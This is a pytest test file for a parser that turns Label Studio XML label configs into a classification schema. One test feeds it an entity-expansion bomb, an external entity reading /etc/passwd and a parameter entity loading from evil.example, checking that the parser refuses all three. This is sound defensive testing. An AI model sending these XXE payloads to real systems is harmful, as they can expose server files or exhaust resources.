"""Which label configs can be learnt, and what is said of the others."""

import json

import pytest

from backend.errors import SchemaError
from backend.labelstudio.config import LEARNABLE, read_schema
from model.schema import Channels, Schema
from tests.builders import FIXTURES
from tests.label_studio import choices_config

# Written and taken by a real Label Studio.
CONFIGS = json.loads((FIXTURES / "label_configs.json").read_text())
TEXT = '<Text name="t" value="$t"/>'
TWO = '<Choice value="a"/><Choice value="b"/>'

SENTIMENT = Schema(
    control="sentiment",
    target="text",
    classes=("Positive", "Negative"),
    tag="Text",
    key="text",
)
LEARNT = {
    "text_choices": SENTIMENT,
    "text_choices_textarea": SENTIMENT,
    "text_choices_alias_hint": Schema(
        control="sentiment",
        target="text",
        classes=("pos", "neg"),
        tag="Text",
        key="text",
    ),
    "two_choices": Schema(
        control="c1", target="text", classes=("A", "B"), tag="Text", key="text"
    ),
    "image_choices": Schema(
        control="cls",
        target="image",
        classes=("cat", "dog"),
        tag="Image",
        key="image",
        is_address=True,
    ),
    "audio_choices": Schema(
        control="cls",
        target="audio",
        classes=("speech", "music"),
        tag="Audio",
        key="audio",
    ),
    "video_choices": Schema(
        control="cls", target="video", classes=("run", "jump"), tag="Video", key="video"
    ),
    "timeseries_choices": Schema(
        control="state",
        target="ts",
        classes=("normal", "fault"),
        tag="TimeSeries",
        key="csv",
        is_address=True,
        channels=Channels(columns=("sensor1", "sensor2"), time="time"),
    ),
}
REFUSED = {
    "text_multichoice": "'topics' takes several choices",
    "per_region_choices": "'rc' labels regions, not whole tasks",
    "dynamic_choices": "'dyn' takes its choices from each task's data",
    "image_bbox": "the label config has no <Choices>",
    "number": "the label config has no <Choices>",
    "pairwise": "the label config has no <Choices>",
    "rating": "the label config has no <Choices>",
    "taxonomy": "the label config has no <Choices>",
    "timeseries_labels": "the label config has no <Choices>",
}


def config(inner: str, attributes: str = 'name="c" toName="t"') -> str:
    return f"<View>{TEXT}<Choices {attributes}>{inner}</Choices></View>"


def classes_of(*values: str) -> tuple[str, ...]:
    return read_schema(choices_config(*values)).classes


def test_each_captured_config_is_expected_to_be_learnt_or_refused() -> None:
    assert CONFIGS.keys() == LEARNT.keys() | REFUSED.keys()


@pytest.mark.parametrize("name", LEARNT)
def test_single_choices_are_learnt(name: str) -> None:
    assert read_schema(CONFIGS[name]) == LEARNT[name]


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_learnt_is_refused_with_the_reason(name: str) -> None:
    with pytest.raises(SchemaError) as refused:
        read_schema(CONFIGS[name])

    assert str(refused.value) == f"{REFUSED[name]}. {LEARNABLE}"


@pytest.mark.parametrize("choice", ["", 'choice="single"', 'choice="single-radio"'])
def test_choices_are_single_unless_said_otherwise(choice: str) -> None:
    found = read_schema(config(TWO, f'name="c" toName="t" {choice}'))

    assert found.classes == ("a", "b")


@pytest.mark.parametrize(
    ("inner", "attributes", "reason"),
    [
        (TWO, 'name="c"', "'c' is for '', which is not there"),
        (TWO, 'name="c" toName="other"', "'c' is for 'other', which is not there"),
        (TWO, 'toName="t"', "'a <Choices>' has no name"),
        ("", 'name="c" toName="t"', "'c' has fewer than two choices"),
        ('<Choice value="a"/>' * 2, 'name="c" toName="t"', "fewer than two choices"),
        (
            f'<Choice value="animal">{TWO}</Choice><Choice value="c"/>',
            'name="c" toName="t"',
            "'c' has choices inside choices",
        ),
    ],
)
def test_half_a_control_is_refused(inner: str, attributes: str, reason: str) -> None:
    with pytest.raises(SchemaError, match=reason):
        read_schema(config(inner, attributes))


def test_the_first_control_that_can_be_learnt_is_learnt() -> None:
    several = f'<Choices name="many" toName="t" choice="multiple">{TWO}</Choices>'
    single = f'<Choices name="one" toName="t">{TWO}</Choices>'

    found = read_schema(f"<View>{TEXT}{several}{single}</View>")

    assert found.control == "one"


def test_the_reason_for_each_control_is_told() -> None:
    several = f'<Choices name="many" toName="t" choice="multiple">{TWO}</Choices>'
    few = '<Choices name="few" toName="t"><Choice value="a"/></Choices>'

    with pytest.raises(SchemaError, match=r"'many' takes.*; 'few' has fewer"):
        read_schema(f"<View>{TEXT}{several}{few}</View>")


@pytest.mark.parametrize(
    "broken",
    [
        "",
        "   ",
        "no config",
        "<View>",
        "<View></Wiev>",
        "<View/><View/>",
        '<View name="a" name="b"/>',
        "<View>\x00</View>",
        "<View>&unknown;</View>",
        "<View>\ud800</View>",
    ],
)
def test_what_is_no_xml_is_refused(broken: str) -> None:
    with pytest.raises(SchemaError, match="is not XML that can be read"):
        read_schema(broken)


def entity_bomb() -> str:
    entities = ['<!ENTITY e0 "boom">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE View [{''.join(entities)}]><View>&e9;</View>"


@pytest.mark.parametrize(
    "attack",
    [
        entity_bomb(),
        '<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><View>&x;</View>',
        '<!DOCTYPE v [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><View/>',
    ],
)
def test_entities_are_refused_unread(attack: str) -> None:
    with pytest.raises(SchemaError, match="is not XML that can be read: Entities"):
        read_schema(attack)


def test_a_huge_config_is_refused_unread() -> None:
    with pytest.raises(SchemaError, match="longer than 1000000 characters"):
        read_schema("<View>" + " " * 1_000_000 + "</View>")


def test_a_deep_config_is_read_as_any_other() -> None:
    depth = 20_000

    with pytest.raises(SchemaError, match="has no <Choices>"):
        read_schema("<View>" * depth + "</View>" * depth)


def test_classes_that_differ_in_case_or_blanks_are_different() -> None:
    assert classes_of("Run", "run", "run ", " run") == ("Run", "run", "run ", " run")


def test_classes_may_be_of_any_script() -> None:
    written = ("🙂", "走る", "\u00e9", "e\u0301")

    assert classes_of(*written) == written


def test_a_value_that_comes_twice_is_one_class() -> None:
    assert classes_of("a", "b", "a") == ("a", "b")


def test_a_thousand_classes_keep_their_order() -> None:
    many = tuple(f"class {number}" for number in range(1_000))

    assert classes_of(*many) == many


def test_comments_and_instructions_are_passed_over() -> None:
    commented = config(f"<!-- <Choice value='no'/> -->{TWO}").replace(
        "<View>", "<View><?style x?><Header value='Hello'/>"
    )

    assert read_schema(commented).classes == ("a", "b")


@pytest.mark.parametrize(
    ("tag", "attributes", "is_address"),
    [
        ("Text", 'value="$x"', False),
        ("Text", 'value="$x" valueType="url"', True),
        ("TimeSeries", 'value="$x"', True),
        ("TimeSeries", 'value="$x" valueType="json"', False),
        ("HyperText", 'value="$x" valueType="url"', True),
    ],
)
def test_it_is_known_whether_data_is_an_address(
    tag: str, attributes: str, *, is_address: bool
) -> None:
    found = read_schema(choices_config("a", "b", tag=tag, attributes=attributes))

    assert (found.key, found.is_address) == ("x", is_address)
    assert found.tag == ("Text" if tag == "HyperText" else tag)


@pytest.mark.parametrize(
    ("separator", "expected"),
    [("", ","), ('sep=";"', ";"), (r'sep="\t"', "\t"), ('sep="tab"', "\t")],
)
def test_the_separator_of_a_recording_is_read(separator: str, expected: str) -> None:
    attributes = f'value="$x" timeColumn="at" {separator}'
    shown = choices_config("a", "b", tag="TimeSeries", attributes=attributes)

    found = read_schema(shown).channels

    assert found == Channels(time="at", separator=expected)


def test_each_channel_of_a_recording_is_read_once() -> None:
    channels = "".join(f'<Channel column="{name}"/>' for name in ("x", " y ", "x", ""))
    shown = f'<TimeSeries name="t" value="$t">{channels}</TimeSeries>'

    found = read_schema(config(TWO).replace(TEXT, shown)).channels

    assert found.columns == ("x", "y")
